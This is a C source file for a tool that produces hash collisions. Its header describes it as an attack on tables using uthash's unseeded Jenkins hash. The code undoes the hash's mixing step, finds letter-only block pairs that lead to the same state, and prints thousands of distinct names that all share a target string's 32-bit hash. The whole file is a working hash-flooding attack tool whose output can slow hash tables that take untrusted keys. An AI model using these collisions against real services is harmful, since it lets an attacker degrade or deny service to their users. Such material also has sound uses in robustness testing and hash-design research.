/* Prints names with the same hash, for an attack on tables that use uthash's Jenkins hash without a
 * seed.
 *
 *     collide COUNT TARGET
 *
 * prints COUNT different names, one on each line, whose hash is that of TARGET in all of its 32
 * bits.
 *
 * The hash adds twelve bytes at a time to a state of three words, and mixes it, which can be undone.
 * A pair of blocks can lead from any state to any other: the first block is chosen freely, and the
 * second is the difference that is left. Once in some 300,000 times that consists of letters. WAYS
 * such pairs are found for each of PAIRS steps; since all pairs of a step lead to the same state,
 * any combination of them is a name, and all names have the same hash.
 */
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <uthash.h>

#include "chance.h"

#define BLOCK 12
#define PAIR  ((size_t)2 * BLOCK)
#define PAIRS 3
#define WAYS  40 /* WAYS to the power of PAIRS is how many names there are */

struct state {
    uint32_t a, b, c;
};

static void mix(struct state *s)
{
    HASH_JEN_MIX(s->a, s->b, s->c);
}

/* Each line undoes one of HASH_JEN_MIX, the last one first. */
static void unmix(struct state *s)
{
    uint32_t a = s->a, b = s->b, c = s->c;
    c ^= b >> 15, c += b, c += a;
    b ^= a << 10, b += a, b += c;
    a ^= c >> 3, a += c, a += b;
    c ^= b >> 5, c += b, c += a;
    b ^= a << 16, b += a, b += c;
    a ^= c >> 12, a += c, a += b;
    c ^= b >> 13, c += b, c += a;
    b ^= a << 8, b += a, b += c;
    a ^= c >> 13, a += c, a += b;
    *s = (struct state){a, b, c};
}

static uint32_t hash_of(const char *name, size_t len)
{
    unsigned hash;
    HASH_JEN(name, len, hash);
    return hash;
}

/* Whether the word is four bytes that stand for themselves in a name and in a key. */
static bool is_letters(uint32_t word)
{
    for (int i = 0; i < 4; i++, word >>= 8) {
        uint32_t byte = word & 255;
        if (byte <= ' ' || byte > 'z' || byte == '%' || byte == '/' || byte == '.')
            return false;
    }
    return true;
}

static uint32_t word_of(const char *bytes)
{
    return (uint32_t)bytes[0] | (uint32_t)bytes[1] << 8 | (uint32_t)bytes[2] << 16 |
           (uint32_t)bytes[3] << 24;
}

static void put_word(char *bytes, uint32_t word)
{
    for (int i = 0; i < 4; i++)
        bytes[i] = (char)(word >> 8 * i);
}

/* A pair of blocks that leads from one state to the other, which is mixed then. */
static void find_pair(struct chance *chance, const struct state *from, const struct state *to,
                      char *pair)
{
    for (;;) {
        for (int i = 0; i < BLOCK; i++)
            pair[i] = (char)chance_range(chance, 'a', 'z');
        struct state s = {from->a + word_of(pair), from->b + word_of(pair + 4),
                          from->c + word_of(pair + 8)};
        mix(&s);
        struct state left = {to->a - s.a, to->b - s.b, to->c - s.c};
        if (!is_letters(left.a) || !is_letters(left.b) || !is_letters(left.c))
            continue;
        put_word(pair + BLOCK, left.a);
        put_word(pair + BLOCK + 4, left.b);
        put_word(pair + BLOCK + 8, left.c);
        return;
    }
}

static char pairs[PAIRS][WAYS][PAIR];

static void find_pairs(uint32_t target)
{
    struct chance chance = {.state = target};
    struct state s = {0x9e3779b9u, 0x9e3779b9u, 0xfeedbeefu}; /* as HASH_JEN begins */
    for (size_t i = 0; i < PAIRS; i++) {
        struct state next = {0, 0, target}; /* except for the last one, any state would do */
        unmix(&next);
        next.c -= (uint32_t)(PAIRS * PAIR); /* the length, which is added at the end */
        unmix(&next);
        for (size_t way = 0; way < WAYS; way++)
            find_pair(&chance, &s, &next, pairs[i][way]);
        s = next;
        mix(&s);
    }
}

int main(int argc, char **argv)
{
    unsigned long count = argc == 3 ? strtoul(argv[1], NULL, 10) : 0, most = 1;
    for (int i = 0; i < PAIRS; i++)
        most *= WAYS;
    if (count == 0 || count > most) {
        fprintf(stderr, "usage: collide COUNT TARGET, where COUNT is at most %lu\n", most);
        return 2;
    }
    uint32_t target = hash_of(argv[2], strlen(argv[2]));
    find_pairs(target);
    for (unsigned long number = 0; number < count; number++) {
        char name[PAIRS * PAIR + 1] = "";
        unsigned long rest = number;
        for (size_t i = 0; i < PAIRS; i++, rest /= WAYS)
            memcpy(name + i * PAIR, pairs[i][rest % WAYS], PAIR);
        if (hash_of(name, PAIRS * PAIR) != target) {
            fprintf(stderr, "%s does not have the hash of %s\n", name, argv[2]);
            return 1;
        }
        puts(name);
    }
    return 0;
}
